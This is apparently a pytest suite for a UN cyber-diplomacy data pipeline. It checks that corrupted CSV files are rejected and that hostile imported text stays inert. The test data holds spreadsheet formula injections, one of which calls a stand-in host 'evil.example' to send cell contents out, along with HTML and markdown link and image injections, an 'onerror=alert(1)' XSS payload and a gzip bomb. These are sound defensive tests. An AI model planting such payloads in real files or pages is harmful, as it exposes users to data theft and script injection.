"""A corpus of corrupted and hostile inputs. Corrupted ones exit non-zero, name file, line and column, and leave the
warehouse byte-identical (synthetic corruptions of the fixture world and of UN Digital Library files). Hostile ones
are accepted but never act: no formula, link, image or markup from outside text in any export, page or figure."""
from __future__ import annotations

import ast
import hashlib
import re
from pathlib import Path

import pytest

from cyberdiplomacy import views
from etl.__main__ import main as etl_main
from tests.conftest import ROOT, build
from tests.test_etl_validation import replace_in

UNDL_HEADER = "ms_code,ms_vote,date,resolution,total_yes\n"
UNDL_TITLED = "ms_code,ms_vote,date,resolution,total_yes,title\n"


def edit(file_name, old, new):
    return lambda d: replace_in(d / file_name, old, new)


def write(file_name, content: bytes | str):
    def apply(d: Path):
        data = content if isinstance(content, bytes) else content.encode("utf-8")
        (d / file_name).write_bytes(data)
    return apply


def append(file_name, text):
    def apply(d: Path):
        with (d / file_name).open("a", encoding="utf-8") as handle:
            handle.write(text)
    return apply


def latin1(file_name):
    def apply(d: Path):
        path = d / file_name
        path.write_bytes(path.read_bytes().replace(b"Holy See", "Holy S\xe9e".encode("latin-1")))
    return apply


def second_regional_group(d: Path):
    """France in Asia-Pacific as well as in WEOG (its group in states.csv): two groups for one state, as Türkiye was."""
    for group in ("Western European and other States", "Asia-Pacific States"):
        append("blocs.csv", f"{group},un_regional_group,Fixture group,1963-12-17,A/99/INF/1,confirmed,\n")(d)
        append("bloc_memberships.csv", f"{group},un_regional_group,FRA,,,2026-01-01,A/99/INF/1,confirmed,\n")(d)


def huge_votes(d: Path):
    """About 200,000 extra rows repeating one key: a huge file full of duplicates."""
    row = "A/RES/99/1,plenary,2010-12-01,CHN,Y,A/99/INF/1,confirmed,\n"
    with (d / "votes.csv").open("a", encoding="utf-8") as handle:
        handle.write(row * 200_000)


CURATED = [  # (id, corruption, file, line, column, rule)
    ("decomposed-accent", edit("states.csv", "Holy See", "Holy Se\u0301e"), "states.csv", 7, "name", "unicode-nfc"),
    ("wrong-delimiter", write("states.csv", "iso3;name;status\nCHN;China;member\n"),
     "states.csv", 1, "iso3;name;status", "undeclared-column"),
    ("latin-1-bytes", latin1("states.csv"), "states.csv", 7, "(byte 11)", "encoding"),
    ("truncated-line", edit("votes.csv", "2010-12-01,FRA,Y,A/99/INF/1,confirmed,", "2010-12-01,FRA"),
     "votes.csv", 3, "vote", "field-count"),
    ("extra-field", edit("votes.csv", "2010-12-01,FRA,Y,A/99/INF/1,confirmed,", "2010-12-01,FRA,Y,A/99/INF/1,confirmed,,x"),
     "votes.csv", 3, "(field 9)", "field-count"),
    ("duplicate-key", edit("states.csv", "RUS,Russian Federation", "CHN,Russian Federation"),
     "states.csv", 4, "iso3", "unique"),
    ("unknown-iso3", edit("sponsorships.csv", "A/RES/99/2,RUS", "A/RES/99/2,XKX"),
     "sponsorships.csv", 3, "iso3", "reference"),
    ("vote-Q", edit("votes.csv", "2018-12-17,FRA,A", "2018-12-17,FRA,Q"), "votes.csv", 7, "vote", "allowed"),
    ("date-2018-02-30", edit("votes.csv", "2018-12-17,CHN,Y", "2018-02-30,CHN,Y"), "votes.csv", 6, "vote_date", "type"),
    ("end-before-start", edit("meetings.csv", "2011-01-17,2011-01-21", "2011-01-21,2011-01-17"), "meetings.csv", 2,
     "end_date", "date-order"),
    ("totals-mismatch", edit("resolutions.csv", "recorded_vote,2,1,1", "recorded_vote,3,1,1"), "resolutions.csv", 3,
     "plenary_yes_count", "vote-totals"),
    ("missing-column", edit("meetings.csv", ",chair,", ","), "meetings.csv", 1, "chair", "missing-column"),
    ("extra-column", edit("states.csv", ",notes\n", ",notes,colour\n"), "states.csv", 1, "colour", "undeclared-column"),
    ("empty-file", write("meetings.csv", b""), "meetings.csv", 1, "(header)", "header"),
    ("very-long-line", edit("states.csv", "VAT,Holy See,observer,,,A/99/INF/1,confirmed,",
                            "VAT,Holy See,observer,,,A/99/INF/1,confirmed," + "x" * 1_000_000), "states.csv", 7, "notes",
     "length"),
    ("huge-file", huge_votes, "votes.csv", 16, "resolution_symbol, stage, iso3", "unique"),
    ("unclosed-quote", edit("meetings.csv", "Fixture Expert Group,FEG,criminal_ict,first", '"Fixture Expert Group,FEG'),
     "meetings.csv", 2, "(row)", "csv"),
    ("nul-byte", edit("states.csv", "France", "Fra\x00nce"), "states.csv", 3, "name", "control-character"),
    ("float-count", edit("resolutions.csv", "recorded_vote,3,1,0", "recorded_vote,3.0,1,0"), "resolutions.csv", 2,
     "plenary_yes_count", "type"),
    ("non-member-votes", edit("votes.csv", "2010-12-01,RUS,Y", "2010-12-01,SSD,Y"),
     "votes.csv", 4, "iso3", "membership"),
    ("member-missing", edit("votes.csv", "A/RES/99/2,plenary,2018-12-17,SSD,X,fixture,inferred,\n", ""), "votes.csv", 6,
     "iso3", "membership"),
    ("undeclared-file", write("notes.csv", "a,b\n1,2\n"), "notes.csv", 1, "(file)", "undeclared-file"),
    ("lowercase-code", edit("states.csv", "FRA,France", "fra,France"), "states.csv", 3, "iso3", "pattern"),
    ("required-empty", edit("resolutions.csv", "A/RES/99/1,resolution", ",resolution"),
     "resolutions.csv", 2, "symbol", "required"),
    ("unknown-role", edit("sponsorships.csv", "RUS,original", "RUS,cosponsor"),
     "sponsorships.csv", 3, "role", "allowed"),
    ("left-before-joined", edit("bloc_memberships.csv", "1996-02-28,2022-03-16", "2022-03-16,1996-02-28"),
     "bloc_memberships.csv", 3, "left_date", "date-order"),
    ("trailing-space", edit("votes.csv", "2010-12-01,CHN,Y", "2010-12-01,CHN ,Y"),
     "votes.csv", 2, "iso3", "whitespace"),
    ("unknown-resolution", edit("votes.csv", "A/RES/99/1,plenary,2010-12-01,CHN", "A/RES/98/1,plenary,2010-12-01,CHN"),
     "votes.csv", 2, "resolution_symbol", "reference"),
    ("duplicate-column", edit("states.csv", ",notes\n", ",notes,notes\n"), "states.csv", 1, "notes", "duplicate-column"),
    ("missing-file", lambda d: (d / "meetings.csv").unlink(), "meetings.csv", 0, "(file)", "missing-file"),
    ("blank-row", edit("states.csv", "FRA,France", ",,\nFRA,France"), "states.csv", 3, "(row)", "blank-row"),
    ("overlapping-spell", edit("bloc_memberships.csv", "RUS,1996-02-28,2022-03-16,2026-01-01,A/99/INF/1,confirmed,",
                               "RUS,1996-02-28,2022-03-16,2026-01-01,A/99/INF/1,confirmed,\n"
                               "Council of Europe,organization,RUS,2000-01-01,,2026-01-01,A/99/INF/1,confirmed,"),
     "bloc_memberships.csv", 4, "joined_date", "overlapping-membership"),
    ("spell-without-start", edit("blocs.csv", "Fixture BRICS,2009-06-16,", "Fixture BRICS,,"),
     "bloc_memberships.csv", 4, "joined_date", "membership-start"),
    ("joined-before-founding", edit("bloc_memberships.csv", "FRA,1949-08-03", "FRA,1940-08-03"),
     "bloc_memberships.csv", 2, "joined_date", "before-founding"),
    ("two-regional-groups", second_regional_group, "bloc_memberships.csv", 6, "bloc", "regional-group"),
    ("pastebin-source", edit("states.csv", "VAT,Holy See,observer,,,A/99/INF/1", "VAT,Holy See,observer,,,"
                             "https://pastebin.com/36NWnpqR ; A/99/INF/1"), "states.csv", 7, "source", "not-a-source"),
    ("confirmed-by-a-blog", edit("votes.csv", "2010-12-01,CHN,Y,A/99/INF/1,confirmed",
                                 "2010-12-01,CHN,Y,https://example.org/blog/un-vote,confirmed"),
     "votes.csv", 2, "confidence", "confirmed-source"),
    ("sponsor-on-two-drafts", edit("sponsorships.csv", "A/C.3/99/L.2,A/RES/99/2,RUS,original,,,A/99/INF/1,confirmed,",
                                   "A/C.3/99/L.2,A/RES/99/2,RUS,original,,,A/99/INF/1,confirmed,\n"
                                   "A/C.3/99/L.9,A/RES/99/2,RUS,original,,,A/99/INF/1,confirmed,"),
     "sponsorships.csv", 4, "draft_symbol", "sponsor-twice"),
]

UNDL = [  # (id, file content, line, column)
    ("undl-unknown-header", "country;vote\nCHN;Y\n", 1, None),
    ("undl-vote-Q", UNDL_HEADER + "CHN,Y,2018-12-17,A/RES/99/2,2\nFRA,Q,2018-12-17,A/RES/99/2,2\n", 3, "ms_vote"),
    ("undl-bad-date", UNDL_HEADER + "CHN,Y,2018-02-30,A/RES/99/2,2\n", 2, "date"),
    ("undl-float-total", UNDL_HEADER + "CHN,Y,2018-12-17,A/RES/99/2,2.5\n", 2, "total_yes"),
    ("undl-empty", "", 1, None),
    ("undl-ragged-row", UNDL_HEADER + "CHN,Y,2018-12-17,A/RES/99/2,2\nFRA,Y,2018-12-17,A/RES/99/2,2,9\n", 3,
     "(field 6)"),
    ("undl-duplicate-state", UNDL_HEADER + "CHN,Y,2018-12-17,A/RES/99/2,2\nCHN,N,2018-12-17,A/RES/99/2,2\n", 3,
     "resolution, ms_code"),
    ("undl-huge-header", "x" * 100_000 + "\n", 1, "(header)"),  # a header line past MAX_HEADER_BYTES
    ("undl-huge-line", UNDL_HEADER + "CHN,Y,2018-12-17,A/RES/99/2," + "9" * 3_000_000 + "\n", 2, "(row)"),
    # Outside text that could act or hide wherever it is shown: refused like curated text is.
    ("undl-nul-in-title", UNDL_TITLED + "CHN,Y,2018-12-17,A/RES/99/2,2,Fixture\x00text\n", 2, "title"),
    ("undl-cr-in-title", UNDL_TITLED + 'CHN,Y,2018-12-17,A/RES/99/2,2,"Fixture\rtext"\n', 2, "title"),
    ("undl-5012-character-title", UNDL_TITLED + "CHN,Y,2018-12-17,A/RES/99/2,2," + "T" * 5_012 + "\n", 2, "title"),
    ("undl-latin-1", (UNDL_HEADER + "CHN,Y,2018-12-17,A/RES/99/2,2\n").encode() + "CIV,Y,2018-12-17,Côte,2\n".encode(
        "latin-1"), 3, None),
]


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def warehouse(world_dir, tmp_path, monkeypatch):
    db = build(world_dir, tmp_path / "w.duckdb")
    monkeypatch.setenv("CYBERDIPLOMACY_IMPORTS", str(tmp_path / "imports"))
    return db


def validator_rules() -> set[str]:
    """Every rule the curated-data checks can report under a fixed name: the rule argument of each Issue(...)
    built by our own checks (validate.py, rules.py, membership_rules.py, source_policy.py) and by the mapping of
    frictionless' errors (standard.py)."""
    rules = set()
    for name in ("validate.py", "standard.py", "rules.py", "membership_rules.py", "source_policy.py"):
        tree = ast.parse((ROOT / "etl" / name).read_text(encoding="utf-8"))
        rules |= {call.args[4].value for call in ast.walk(tree) if isinstance(call, ast.Call)
                  and getattr(call.func, "id", None) == "Issue" and len(call.args) > 4
                  and isinstance(call.args[4], ast.Constant)}
    return rules


def test_the_corpus_reaches_every_validation_rule():
    # Each case below asserts the rule it fires (test_curated_corruption); a rule added to the validator
    # without a corrupted input that fires it, or a case that stops firing its rule, fails here or there.
    assert len(validator_rules()) >= 20
    assert {c[5] for c in CURATED} == validator_rules()
    assert len({c[0] for c in CURATED + UNDL}) == len(CURATED) + len(UNDL)


@pytest.mark.parametrize("case", CURATED, ids=[c[0] for c in CURATED])
def test_curated_corruption(case, world_dir, warehouse, capsys):
    _, corrupt, file_name, line, column, rule = case
    before = digest(warehouse)
    corrupt(world_dir)
    code = etl_main(["build", "--data-dir", str(world_dir), "--db", str(warehouse)])
    err = capsys.readouterr().err
    assert code == 1
    place = f"data/{file_name}:{line}: column '{column}'" if line else f"data/{file_name}: column '{column}'"
    assert any(place in row and f"[{rule}]" in row for row in err.splitlines()), err[:2000]
    assert "previous warehouse is unchanged" in err
    assert digest(warehouse) == before


@pytest.mark.parametrize("case", UNDL, ids=[c[0] for c in UNDL])
def test_undl_corruption(case, world_dir, warehouse, tmp_path, capsys):
    name, content, line, column = case
    path = tmp_path / f"{name}.csv"
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    before = digest(warehouse)
    code = etl_main(["import-undl", str(path), "--data-dir", str(world_dir), "--db", str(warehouse)])
    err = capsys.readouterr().err
    assert code == 1
    assert re.search(rf"{re.escape(path.name)}:{line}:", err), err
    if column:
        assert f"column '{column}'" in err, err
    assert "Traceback" not in err
    assert digest(warehouse) == before
    assert not list((tmp_path / "imports").rglob("*.parquet")) if (tmp_path / "imports").exists() else True


# Outside text that must never act where it is written (issue: data from outside can never act). One UN Digital
# Library file brings every attempt as a title, draft or meeting symbol; each text joins the record (CYBERCRIME).
HOSTILE = {"A/RES/100/8": '=HYPERLINK("http://evil.example/?"&A2,"x")',
           "A/RES/100/9": '<a href="https://evil.example/a">a</a> [text](https://evil.example/t)',
           "A/RES/100/10": "+1+1", "A/RES/100/11": "-1+1", "A/RES/100/12": "@SUM(1+1)"}
HOSTILE_DRAFTS = {"A/RES/100/8": "[draft](https://evil.example/d)", "A/RES/100/9": '<img src="http://127.0.0.1:9/i.png">'}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    from etl import imports
    from etl.schema import load_catalog
    from etl.validate import validate
    from tests.conftest import make_world

    base = tmp_path_factory.mktemp("hostile")
    world = make_world(base / "data")
    catalog = load_catalog(world)
    db = base / "w.duckdb"
    imports.add([ROOT / "tests" / "fixtures" / "undl" / "hostile.csv"], catalog, validate(catalog, world), db, world,
                base / "imports", progress=None)
    return db


@pytest.fixture(scope="module")
def hostile_con(hostile_db):
    import duckdb

    con = duckdb.connect(str(hostile_db), read_only=True)
    yield con
    con.close()


def workbook_cells(data: bytes) -> list:
    import io

    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def titles_by_symbol(rows: list[list], header: list[str]) -> dict[str, str]:
    symbol, title = header.index("symbol"), header.index("title")
    return {row[symbol]: row[title] for row in rows if row[symbol] in HOSTILE}


def test_imported_formulas_are_text_in_the_xlsx_of_a_table(hostile_con):
    import io

    import openpyxl

    from cyberdiplomacy import exports, queries

    table = queries.table(hostile_con, "resolutions")
    data = exports.xlsx_bytes(table, exports.about("Resolutions", "", [], {}))
    assert [c.coordinate for c in workbook_cells(data) if c.data_type == "f"] == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))["data"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert titles_by_symbol(rows[1:], rows[0]) == {s: "'" + t if t[0] in "=+-@" else t for s, t in HOSTILE.items()}


def test_imported_formulas_start_with_a_quote_in_csv_and_the_dataset_zip(hostile_con):
    import csv
    import io
    import zipfile

    import pyarrow.parquet as pq

    from cyberdiplomacy import dataset, exports, queries

    expected = {s: "'" + t if t[0] in "=+-@" else t for s, t in HOSTILE.items()}
    rows = list(csv.reader(io.StringIO(exports.csv_bytes(queries.table(hostile_con, "resolutions")).decode())))
    assert titles_by_symbol(rows[1:], rows[0]) == expected
    archive = zipfile.ZipFile(io.BytesIO(dataset.from_warehouse(hostile_con)))
    rows = list(csv.reader(io.StringIO(archive.read("csv/resolutions.csv").decode())))
    assert titles_by_symbol(rows[1:], rows[0]) == expected
    # Parquet is read by programs, not spreadsheets: it keeps the text as imported.
    parquet = pq.read_table(io.BytesIO(archive.read("parquet/resolutions.parquet"))).to_pylist()
    assert {r["symbol"]: r["title"] for r in parquet if r["symbol"] in HOSTILE} == HOSTILE


def test_no_figure_table_writes_a_formula(hostile_con):
    from cyberdiplomacy import exports, figures
    from cyberdiplomacy.filters import Filters

    written = 0
    for name in figures.FIGURES:
        try:
            drawn = figures.build(name, figures.Direct(hostile_con), Filters(resolution="A/RES/100/8"))
        except figures.FigureUnavailable:
            continue
        cells = workbook_cells(exports.xlsx_bytes(drawn.table, exports.about(name, "", [], {})))
        assert [c.value for c in cells if c.data_type == "f"] == [], name
        text = exports.csv_bytes(drawn.table).decode()
        assert not any(line.startswith(tuple("=+-@")) or f",{HOSTILE['A/RES/100/8']}" in line
                       for line in text.splitlines()), name
        written += 1
    assert written >= 10


def test_the_briefing_workbook_writes_no_formula(hostile_con):
    from cyberdiplomacy import briefing

    pack = briefing.for_resolution(hostile_con, "A/RES/100/8")
    cells = workbook_cells(briefing.to_xlsx(pack))
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert "'" + HOSTILE["A/RES/100/8"] in {c.value for c in cells}


def test_numbers_stay_numbers_and_every_formula_start_is_text():
    import io

    import openpyxl
    import pandas as pd

    from cyberdiplomacy import exports

    frame = pd.DataFrame({"text": ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "a-1", None],
                          "count": [-3, -2, -1, 0, 1, 2, 3, 4], "share": [-0.5, 0.5, None, 1, 1, 1, 1, 1]})
    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame, {})))["data"]
    assert [c.value for c in sheet["A"]][1:] == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "a-1", None]
    assert [(c.value, c.data_type) for c in sheet["B"]][1:4] == [(-3, "n"), (-2, "n"), (-1, "n")]
    assert sheet["C2"].value == -0.5 and sheet["C2"].data_type == "n"
    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), keep_default_na=False)
    assert back["text"].tolist() == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "a-1", ""]
    assert back["count"].tolist() == [-3, -2, -1, 0, 1, 2, 3, 4]


def live_markup(markdown_source: str) -> list[str]:
    """Links and images a markdown text makes (CommonMark, as Streamlit's renderer reads it), and raw HTML in it."""
    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark", {"html": True, "linkify": False}).render(markdown_source)
    return re.findall(r"<a [^>]*>|<img [^>]*>|<script", rendered)


def test_imported_titles_and_drafts_make_no_link_in_the_story_or_documents(hostile_con):
    from cyberdiplomacy import queries

    history = queries.resolution_history(hostile_con)
    states = queries.states(hostile_con)
    for symbol in ("A/RES/100/8", "A/RES/100/9"):
        row = views.history.row_for(history, symbol)
        sponsors = queries.resolution_sponsors(hostile_con, symbol)
        story = views.history.resolution_story(row, sponsors, states)
        documents = views.history.document_links(row)
        links = live_markup(story) + live_markup(documents)
        assert links and all(link.startswith('<a href="https://undocs.org/') for link in links), links
    row = views.history.row_for(history, "A/RES/100/9")
    story = views.history.resolution_story(row, queries.resolution_sponsors(hostile_con, "A/RES/100/9"), states)
    assert story.splitlines()[:2] == [
        r'**A\/RES\/100\/9**: \<a href\=\"https\:\/\/evil\.example\/a\"\>a\<\/a\> '
        r'\[text\]\(https\:\/\/evil\.example\/t\)',
        r'- Draft [\<img src\=\"http\:\/\/127\.0\.0\.1\:9\/i\.png\"\>]'
        r'(https://undocs.org/%3Cimg%20src%3D%22http%3A//127.0.0.1%3A9/i.png%22%3E)']


def test_no_figure_carries_a_link_or_image_from_outside_text(hostile_con):
    import json

    from cyberdiplomacy import figures
    from cyberdiplomacy.filters import Filters

    checked = 0
    for name in figures.FIGURES:
        for filters in (Filters(resolution="A/RES/100/9"), Filters(states=("CHN", "FRA"))):
            try:
                fig = figures.build(name, figures.Direct(hostile_con), filters).fig
            except figures.FigureUnavailable:
                continue
            text = json.dumps(fig.to_plotly_json(), default=str)
            assert "<a " not in text and "<img" not in text, name
            checked += 1
    assert checked >= 20
    strip = figures.build("state-votes", figures.Direct(hostile_con), Filters(states=("CHN", "FRA"))).fig
    hover = [row[1] for trace in strip.data for row in trace.customdata if row[0] == "A/RES/100/9"]
    assert set(hover) == {'&lt;a href="https://evil.example/a"&gt;a&lt;/a&gt; [text](https://evil.example/t)'}


URL_ATTEMPTS = [  # (parameter, value, the warning a reader sees)
    ("resolution", "![x](http://127.0.0.1:9/b.png)",
     "Unknown resolution '![x](http://127.0.0.1:9/b.png)'; showing the default."),
    ("zz[phish](https://evil.example)", "1", "Ignored unknown parameter 'zz[phish](https://evil.example)'."),
    ("state", "<img src=x onerror=alert(1)>", "Unknown state code '<img src=x onerror=alert(1)>': use ISO 3166 "
     "alpha-3 codes such as RUS or USA, or a name such as Brazil."),
]


@pytest.mark.parametrize("attempt", URL_ATTEMPTS, ids=["image", "link-in-name", "html"])
def test_url_parameters_are_echoed_only_as_text(attempt, world_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from tests.markdown_support import markdown_shown

    key, value, shown = attempt
    monkeypatch.setenv("CYBERDIPLOMACY_DB", str(world_db))
    at = AppTest.from_file("../pages/1_Resolution_history.py", default_timeout=60)
    at.query_params[key] = value
    at.run()
    assert not at.exception
    infos = [i.value for i in at.info]
    assert shown in [markdown_shown(i) for i in infos], infos
    assert [link for i in infos for link in live_markup(i)] == []


def test_hostile_pages_show_no_link_image_or_markup(hostile_db, monkeypatch):
    import json

    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("CYBERDIPLOMACY_DB", str(hostile_db))
    for page, params in (("pages/1_Resolution_history.py", {"resolution": "A/RES/100/9", "view": "text"}),
                         ("pages/1_Resolution_history.py", {"resolution": "A/RES/100/8", "view": "text"}),
                         ("pages/1_Resolution_history.py", {"view": "lineage"}),
                         ("pages/4_State_explorer.py", {"state": "CHN,FRA"}), ("dashboard.py", {})):
        at = AppTest.from_file(f"../{page}", default_timeout=60)
        for key, value in params.items():
            at.query_params[key] = value
        at.run()
        assert not at.exception, page
        texts = [e.value for kind in ("markdown", "caption", "info", "warning", "error") for e in at.get(kind)]
        if params.get("resolution") == "A/RES/100/9":  # the story was drawn, its title shown as text
            assert any(r"\[text\]\(https\:\/\/evil\.example\/t\)" in text for text in texts), texts
        links = [link for text in texts for link in live_markup(text)]
        assert all(link.startswith('<a href="https://undocs.org/') for link in links), (page, links)
        specs = [el.proto.spec for el in at.get("plotly_chart")]
        assert specs and not [s for s in specs if "<a " in s or "<img" in s], page
        assert all(json.loads(s) for s in specs)


BOUNDS = [  # (id, file name, content, the error naming the bound)
    ("header", "wide.csv", b"x" * 100_000 + b"\n", "wide.csv:1: column '(header)': the header line is longer than 64 KiB"),
    ("line", "long.csv", (UNDL_HEADER + "CHN,Y,2018-12-17,A/RES/99/2," + "9" * 3_000_000 + "\n").encode(),
     "long.csv:2: column '(row)': the line is longer than 2 MiB (the bound on a line, MAX_LINE_BYTES)"),
    ("gzip", "bomb.csv.gz", None, "bomb.csv.gz:1: column '(file)': unpacks to more than 1 MiB"),
]


@pytest.mark.parametrize("case", BOUNDS, ids=[c[0] for c in BOUNDS])
def test_reads_are_bounded_and_the_error_names_the_bound(case, world_dir, warehouse, tmp_path, monkeypatch, capsys):
    import gzip

    from etl import undl

    _, name, content, message = case
    path = tmp_path / name
    if content is None:  # 1 KB that unpacks to 8 MiB, refused past a 1 MiB bound before any reader holds it
        monkeypatch.setattr(undl, "MAX_INFLATED_BYTES", 1024 * 1024)
        path.write_bytes(gzip.compress((UNDL_HEADER + "CHN,Y,2018-12-17,A/RES/99/2," + "9" * 8_000_000 + "\n").encode()))
    else:
        path.write_bytes(content)
    before = digest(warehouse)
    code = etl_main(["import-undl", str(path), "--data-dir", str(world_dir), "--db", str(warehouse)])
    err = capsys.readouterr().err
    assert code == 1 and message in err and "Traceback" not in err, err
    assert digest(warehouse) == before


def cyber_file(path: Path, number: int) -> Path:
    """A valid UN Digital Library voting file of one cyber text, A/RES/100/<number>."""
    rows = [f"{4000 + number},{code},{code},{vote},2020-12-08,100,A/RES/100/{number},,,,Text {number},,CYBERCRIME,,"
            "2.0,1.0,1.0,0.0,4.0," for code, vote in (("CHN", "Y"), ("FRA", "N"), ("RUS", "Y"), ("USA", "A"))]
    path.write_text("undl_id,ms_code,ms_name,ms_vote,date,session,resolution,draft,committee_report,meeting,title,"
                    "agenda_title,subjects,vote_note,total_yes,total_no,total_abstentions,total_non_voting,total_ms,"
                    "undl_link\n" + "\n".join(rows) + "\n", encoding="utf-8")
    return path


def imported_symbols(db: Path) -> set[str]:
    import duckdb

    con = duckdb.connect(str(db), read_only=True)
    try:
        return {r[0] for r in con.execute("SELECT symbol FROM resolutions WHERE symbol LIKE 'A/RES/100/%'").fetchall()}
    finally:
        con.close()


@pytest.mark.parametrize("count", [2, 3, 5])
def test_imports_side_by_side_lose_nothing(count, world_dir, warehouse, tmp_path):
    import os
    import subprocess
    import sys

    from etl import imports

    env = {**os.environ, "CYBERDIPLOMACY_IMPORTS": str(tmp_path / "imports")}
    files = [cyber_file(tmp_path / f"c{n}.csv", 20 + n) for n in range(count)]
    runs = [subprocess.Popen([sys.executable, "-m", "etl", "import-undl", str(f), "--data-dir", str(world_dir),
                              "--db", str(warehouse)], cwd=ROOT, env=env, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True) for f in files]
    results = [(run.wait(timeout=600), run.stderr.read()) for run in runs]
    assert [code for code, _ in results] == [0] * count, results
    assert imported_symbols(warehouse) == {f"A/RES/100/{20 + n}" for n in range(count)}
    assert sorted(r["file_name"] for r in imports.kept(tmp_path / "imports")) == [f"c{n}.csv" for n in range(count)]
    assert list((tmp_path / "imports").glob(".staging-*")) == []


def test_a_killed_import_leaves_no_staging_folder_behind_the_next_run(world_dir, warehouse, tmp_path):
    import os
    import signal
    import subprocess
    import sys
    import time

    from etl import imports
    from etl.schema import load_catalog
    from etl.validate import validate

    folder = tmp_path / "imports"
    env = {**os.environ, "CYBERDIPLOMACY_IMPORTS": str(folder)}
    run = subprocess.Popen([sys.executable, "-m", "etl", "import-undl", str(cyber_file(tmp_path / "k.csv", 30)),
                            "--data-dir", str(world_dir), "--db", str(warehouse)], cwd=ROOT, env=env)
    deadline = time.monotonic() + 60
    while not list(folder.glob(".staging-*/.owner")) and time.monotonic() < deadline:
        time.sleep(0.01)
    os.kill(run.pid, signal.SIGKILL)
    run.wait()
    assert len(list(folder.glob(".staging-*"))) == 1  # what a kill leaves
    catalog = load_catalog(world_dir)
    imports.add([cyber_file(tmp_path / "next.csv", 31)], catalog, validate(catalog, world_dir), warehouse, world_dir,
                folder, progress=None)
    assert list(folder.glob(".staging-*")) == []
    assert "A/RES/100/31" in imported_symbols(warehouse)


def test_distinct_file_names_never_collide_in_imports(world_dir, warehouse, tmp_path):
    from etl import imports
    from etl.schema import load_catalog
    from etl.validate import validate

    catalog = load_catalog(world_dir)
    for name, number in (("unga 2026.csv", 40), ("unga_2026.csv", 41)):
        done = imports.add([cyber_file(tmp_path / name, number)], catalog, validate(catalog, world_dir), warehouse,
                           world_dir, tmp_path / "imports", progress=None)
        assert [(d.file_name, d.replaced) for d in done] == [(name, False)]
    assert sorted(r["file_name"] for r in imports.kept(tmp_path / "imports")) == ["unga 2026.csv", "unga_2026.csv"]
    assert imported_symbols(warehouse) == {"A/RES/100/40", "A/RES/100/41"}
